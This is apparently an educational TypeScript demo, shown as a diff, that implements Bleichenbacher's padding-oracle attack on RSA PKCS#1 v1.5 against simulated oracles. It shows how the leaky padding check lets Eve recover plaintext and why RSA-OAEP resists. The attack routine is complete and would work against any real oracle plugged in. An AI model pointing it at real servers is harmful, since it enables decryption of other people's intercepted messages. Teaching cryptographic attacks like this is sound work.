@@ -0,0 +1,162 @@
+import { bigIntToBytes, bytesToBigInt, modulusBytes } from "./pkcs1";
+import { decryptCrt, modPow, type TextbookKey } from "./textbook";
+
+// Bleichenbacher's 1998 attack: a server that reveals whether a ciphertext
+// decrypts to something starting 0x00 0x02 lets an attacker multiply the target
+// ciphertext by chosen sᵉ and narrow down the plaintext from the answers alone.
+
+export interface PaddingOracle {
+  n: bigint;
+  e: bigint;
+  label: string;
+  // True when the server accepted the ciphertext
+  query: (c: bigint) => Promise<boolean>;
+}
+
+export interface OracleProgress {
+  queries: number;
+  phase: string;
+  intervalBits: number; // width of the remaining plaintext range, in bits
+}
+
+export interface BleichenbacherResult {
+  plaintext: bigint | null; // the recovered padded block
+  queries: number;
+  reason: string;
+}
+
+// Bob's legacy endpoint: a padding error and a later failure look different on
+// the wire, and that one bit is the whole leak
+export function pkcs1Oracle(key: TextbookKey): PaddingOracle {
+  const k = modulusBytes(key.n);
+  const B = 1n << BigInt(8 * (k - 2));
+  return {
+    n: key.n,
+    e: key.e,
+    label: "PKCS#1 v1.5 (leaks padding errors)",
+    query: async (c) => {
+      const m = decryptCrt(c, key).m;
+      return m >= 2n * B && m < 3n * B;
+    },
+  };
+}
+
+function base64UrlToBigInt(value: string): bigint {
+  const binary = atob(value.replace(/-/g, "+").replace(/_/g, "/"));
+  return bytesToBigInt(Uint8Array.from(binary, (ch) => ch.charCodeAt(0)));
+}
+
+// Bob's real Web Crypto key. OAEP checks a hash of the label and the padding
+// structure together, so a mauled ciphertext is essentially never accepted.
+export async function oaepOracle(publicKey: CryptoKey, privateKey: CryptoKey): Promise<PaddingOracle> {
+  const jwk = await crypto.subtle.exportKey("jwk", publicKey);
+  if (!jwk.n || !jwk.e) throw new Error("Not an RSA public key");
+  const n = base64UrlToBigInt(jwk.n);
+  const k = modulusBytes(n);
+  return {
+    n,
+    e: base64UrlToBigInt(jwk.e),
+    label: "RSA-OAEP",
+    query: async (c) => {
+      try {
+        await crypto.subtle.decrypt({ name: "RSA-OAEP" }, privateKey, bigIntToBytes(c, k));
+        return true;
+      } catch {
+        return false;
+      }
+    },
+  };
+}
+
+const ceilDiv = (a: bigint, b: bigint) => (a + b - 1n) / b;
+const max = (a: bigint, b: bigint) => (a > b ? a : b);
+const min = (a: bigint, b: bigint) => (a < b ? a : b);
+
+type Interval = [bigint, bigint];
+
+const PROGRESS_EVERY = 500; // queries between progress reports (and UI yields)
+
+// Recovers the padded plaintext of c0, which must itself be PKCS#1 conforming
+// (it is: Eve intercepted a real message). Gives up after maxQueries.
+export async function bleichenbacher(
+  oracle: PaddingOracle,
+  c0: bigint,
+  opts: { maxQueries?: number; onProgress?: (p: OracleProgress) => void; signal?: AbortSignal } = {},
+): Promise<BleichenbacherResult> {
+  const { n, e } = oracle;
+  const maxQueries = opts.maxQueries ?? Infinity;
+  const k = modulusBytes(n);
+  const B = 1n << BigInt(8 * (k - 2));
+  let queries = 0;
+  let phase = "Step 2a: searching for the first s";
+  let M: Interval[] = [[2n * B, 3n * B - 1n]];
+
+  const width = () => M.reduce((acc, [a, b]) => max(acc, b - a), 0n).toString(2).length;
+  const fail = (reason: string): BleichenbacherResult => ({ plaintext: null, queries, reason });
+  // Returns null while the oracle says no, and stops when the budget runs out
+  const conforming = async (s: bigint): Promise<boolean | null> => {
+    if (queries >= maxQueries || opts.signal?.aborted) return null;
+    queries++;
+    if (queries % PROGRESS_EVERY === 0) {
+      opts.onProgress?.({ queries, phase, intervalBits: width() });
+      await new Promise((resolve) => setTimeout(resolve, 0));
+    }
+    return oracle.query((c0 * modPow(s, e, n)) % n);
+  };
+  const outOfBudget = () => fail(opts.signal?.aborted ? "Stopped" : `No conforming answer in ${queries} queries: the oracle gives nothing away`);
+
+  // Step 2a: the smallest s ≥ n/3B that makes c0·sᵉ conforming
+  let s = ceilDiv(n, 3n * B);
+  for (;;) {
+    const ok = await conforming(s);
+    if (ok === null) return outOfBudget();
+    if (ok) break;
+    s++;
+  }
+
+  for (let round = 1; ; round++) {
+    // Step 3: keep only the plaintexts consistent with m·s landing in [2B, 3B)
+    const next: Interval[] = [];
+    for (const [a, b] of M) {
+      for (let r = ceilDiv(a * s - 3n * B + 1n, n); r <= (b * s - 2n * B) / n; r++) {
+        const lo = max(a, ceilDiv(2n * B + r * n, s));
+        const hi = min(b, (3n * B - 1n + r * n) / s);
+        if (lo <= hi && !next.some(([x, y]) => x === lo && y === hi)) next.push([lo, hi]);
+      }
+    }
+    if (next.length === 0) return fail("The intervals collapsed; the target was not a conforming ciphertext");
+    M = next;
+
+    // Step 4: a single point is the plaintext
+    if (M.length === 1 && M[0][0] === M[0][1]) {
+      opts.onProgress?.({ queries, phase: "Done", intervalBits: 0 });
+      return { plaintext: M[0][0], queries, reason: `Recovered after ${queries} oracle queries in ${round} rounds` };
+    }
+
+    if (M.length > 1) {
+      // Step 2b: several intervals left, keep stepping s
+      phase = `Step 2b: ${M.length} intervals left`;
+      for (s++; ; s++) {
+        const ok = await conforming(s);
+        if (ok === null) return outOfBudget();
+        if (ok) break;
+      }
+    } else {
+      // Step 2c: one interval [a, b]; search s in ranges that roughly halve it each time
+      phase = "Step 2c: narrowing one interval";
+      const [a, b] = M[0];
+      let found = false;
+      for (let r = ceilDiv(2n * (b * s - 2n * B), n); !found; r++) {
+        for (let t = ceilDiv(2n * B + r * n, b); t <= (3n * B - 1n + r * n) / a; t++) {
+          const ok = await conforming(t);
+          if (ok === null) return outOfBudget();
+          if (ok) {
+            s = t;
+            found = true;
+            break;
+          }
+        }
+      }
+    }
+  }
+}